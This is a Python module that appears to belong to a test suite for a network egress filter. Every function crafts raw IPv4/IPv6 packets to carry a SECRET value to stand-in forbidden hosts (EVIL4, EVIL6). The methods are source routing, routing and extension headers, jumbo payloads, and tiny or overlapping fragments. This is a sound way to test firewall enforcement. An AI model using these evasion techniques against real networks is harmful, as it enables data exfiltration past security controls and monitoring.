"""IP headers: options, fragments, extension headers."""

import os
import socket
import struct

from attack import *

RAW = ["net_raw"]


def route4(kind, *hops):
    """A source route (RFC 791 §3.1): 131 is loose, 137 is strict."""
    return bytes([kind, 3 + 4 * len(hops), 4]) + b"".join(packed(hop) for hop in hops)


def segment_routing(*hops, kind=4):
    """A routing header (RFC 8754 for type 4)."""
    return struct.pack("!BBBBBBH", 0, 2 * len(hops), kind, len(hops) - 1, len(hops) - 1, 0, 0) + b"".join(
        packed(hop) for hop in reversed(hops))


def extension(following, body=b"\1\4\0\0\0\0"):
    return bytes([following, (2 + len(body)) // 8 - 1]) + body


@way(caps=RAW)
def loose_source_route():
    """A loose source route by way of an allowed address (IP_OPTIONS), UDP and TCP."""
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        s = socket.socket(socket.AF_INET, kind)
        s.settimeout(TIMEOUT)
        s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, route4(131, ALLOWED4) + b"\0")
        attempt(lambda: s.connect((EVIL4, 80)), lambda: s.send(SECRET))


@way(caps=RAW)
def strict_source_route():
    """A strict source route by way of the gateway and an allowed address."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, route4(137, GATEWAY4, ALLOWED4) + b"\0")
    attempt(lambda: s.sendto(SECRET, (EVIL4, 123)))
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, route4(131, ALLOWED4) + b"\0")
    s.sendto(SECRET, (EVIL4, 123))


@way(caps=RAW)
def source_route_of_one_packet():
    """A source route as ancillary data (IP_RETOPTS)."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendmsg([SECRET], [(socket.IPPROTO_IP, socket.IP_RETOPTS, route4(131, ALLOWED4) + b"\0")], 0, (EVIL4, 123))


@way(caps=RAW)
def source_route_behind_others():
    """Source routes behind no-operations, timestamps, and options of a wrong length, in packets made by hand."""
    data = udp_segment(POD4, ALLOWED4, 5000, 123, SECRET)
    for options in (b"\1\1\1" + route4(131, EVIL4), b"\x44\4\5\0" + route4(137, EVIL4), route4(131, EVIL4)[:5],
                    b"\1" * 33 + route4(131, EVIL4), b"\x07\0" + route4(131, EVIL4), b"\x07\1" + route4(131, EVIL4),
                    b"\x07\x27\4" + route4(131, EVIL4)):
        attempt(lambda: send_raw(ip4(POD4, ALLOWED4, 17, data, options[:40])))


@way()
def routing_header():
    """A routing header by way of an allowed address (IPV6_RTHDR of type 4 needs no capability)."""
    for kind in (4, 2, 0):
        s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        attempt(lambda: s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_RTHDR, segment_routing(ALLOWED6, EVIL6, kind=kind)))
        attempt(lambda: s.sendto(SECRET, (EVIL6, 123)))


@way(caps=RAW)
def routing_header_behind_others():
    """Routing headers of every type behind options headers, in packets to an allowed address."""
    data = udp_segment(POD6, ALLOWED6, 5000, 123, SECRET)
    for kind in (0, 2, 3, 4, 253):
        routing = bytes([17]) + segment_routing(EVIL6, ALLOWED6, kind=kind)[1:] + data
        for first, packet in ((43, routing), (60, extension(43) + routing), (0, extension(60) + extension(43) + routing)):
            attempt(lambda: send_raw(ip6(POD6, ALLOWED6, first, packet)))


@way(caps=RAW)
def extension_headers():
    """Extension headers in every order and number before the datagram."""
    data = udp_segment(POD6, EVIL6, 5000, 123, SECRET)
    for chain in ([0], [60], [60, 0], [0, 60, 60], [51], [60] * 7, [60] * 9, [60] * 30, [135], [139], [140], [253], [59]):
        body, following = data, 17
        for header in reversed(chain):
            body, following = extension(following) + body, header
        attempt(lambda: send_raw(ip6(POD6, EVIL6, following, body)))


@way(caps=RAW)
def hidden_behind_extensions():
    """A forbidden port of a destination with an allowed one, behind headers whose lengths are at odds."""
    evil = udp_segment(POD6, WEB6, 5000, 8000, SECRET + packed(EVIL4))
    web = udp_segment(POD6, WEB6, 5000, 123, b"")
    for header in (60, 0, 135, 51, 44):
        body = bytes([17, 0, 0, 0, 0, 0, 0, 0]) + evil
        attempt(lambda: send_raw(ip6(POD6, WEB6, header, body)))
    # Eight bytes are skipped by one reading, sixteen by another.
    attempt(lambda: send_raw(ip6(POD6, WEB6, 60, bytes([17, 1]) + b"\1\4\0\0\0\0" + web + evil, length=16 + 8)))


@way(caps=RAW)
def jumbo():
    """A jumbo payload option (RFC 2675) with no payload length in the header."""
    data = udp_segment(POD6, EVIL6, 5000, 123, SECRET)
    option = struct.pack("!BBI", 0xc2, 4, 8 + len(data))
    attempt(lambda: send_raw(ip6(POD6, EVIL6, 0, bytes([17, 0]) + option + data, length=0)))
    attempt(lambda: send_raw(ip6(POD6, EVIL6, 17, data, length=0)))


@way(caps=RAW)
def later_fragments():
    """Fragments without ports: only later ones, and a first one that never comes."""
    attempt(lambda: send_raw(ip4(POD4, EVIL4, 17, SECRET + b"." * 8, fragment=0x2001)),
            lambda: send_raw(ip4(POD4, WEB4, 17, SECRET + packed(EVIL4), fragment=0x0010)))
    fragment = struct.pack("!BBHI", 17, 0, 0x0008, 7) + SECRET
    attempt(lambda: send_raw(ip6(POD6, EVIL6, 44, fragment)), lambda: send_raw(ip6(POD6, WEB6, 44, fragment)))


@way(caps=RAW)
def tiny_fragments():
    """A first fragment that ends before the ports or the flags, and the rest (RFC 1858)."""
    for segment in (tcp_segment(POD4, WEB4, 5000, 443, 2, SECRET), udp_segment(POD4, WEB4, 5000, 8000, SECRET)):
        for cut in (0, 1, 2, 3, 4, 8):
            protocol = 6 if len(segment) - len(SECRET) == 20 else 17
            attempt(lambda: send_raw(ip4(POD4, WEB4, protocol, segment[:cut], fragment=0x2000, ident=99)),
                    lambda: send_raw(ip4(POD4, WEB4, protocol, segment[8:], fragment=0x0001, ident=99)))


@way(caps=RAW)
def overlapping_fragments():
    """A first fragment to an allowed port, and a second that writes another port over it."""
    first = udp_segment(POD4, WEB4, 5000, 123, b"." * 24)
    second = udp_segment(POD4, WEB4, 5000, 8000, SECRET)
    attempt(lambda: send_raw(ip4(POD4, WEB4, 17, first[:24], fragment=0x2000, ident=98)),
            lambda: send_raw(ip4(POD4, WEB4, 17, second, fragment=0x2000 | 0, ident=98)),
            lambda: send_raw(ip4(POD4, WEB4, 17, SECRET + b"." * 8, fragment=0x0001, ident=98)),
            lambda: send_raw(ip4(POD4, WEB4, 17, SECRET, fragment=0x0003, ident=98)))
    head = struct.pack("!BBHI", 17, 0, 0x0001, 98) + udp_segment(POD6, WEB6, 5000, 123, b"." * 24)[:24]
    over = struct.pack("!BBHI", 17, 0, 0x0008, 98) + SECRET
    attempt(lambda: send_raw(ip6(POD6, WEB6, 44, head)), lambda: send_raw(ip6(POD6, WEB6, 44, over)))


@way(caps=RAW)
def short_headers():
    """Frames with a packet whose header is too short, too long, or of another version."""
    for first in (0x40, 0x41, 0x44, 0x4f, 0x55, 0x65):
        packet = ip4(POD4, EVIL4, 17, udp_segment(POD4, EVIL4, 5000, 123, SECRET))
        packet = bytes([first]) + packet[1:]
        attempt(lambda: send_frame(packet, ethertype=0x0800), lambda: send_frame(packet, ethertype=0x86dd))


@way(caps=RAW)
def options_header():
    """Destination options with the secret, by a sticky option of an ordinary socket, and a home address in one."""
    home = bytes([201, 16]) + packed(EVIL6)
    for options in (b"\x1e\x1c" + (SECRET + b"\0" * 28)[:28], b"\1\0" + b"\1\0" + home):
        s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        body = bytes([0, (2 + len(options) + 7) // 8 - 1]) + options
        body += b"\0" * (-len(body) % 8)
        attempt(lambda: s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_DSTOPTS, body))
        attempt(lambda: s.sendto(SECRET, (EVIL6, 123)))
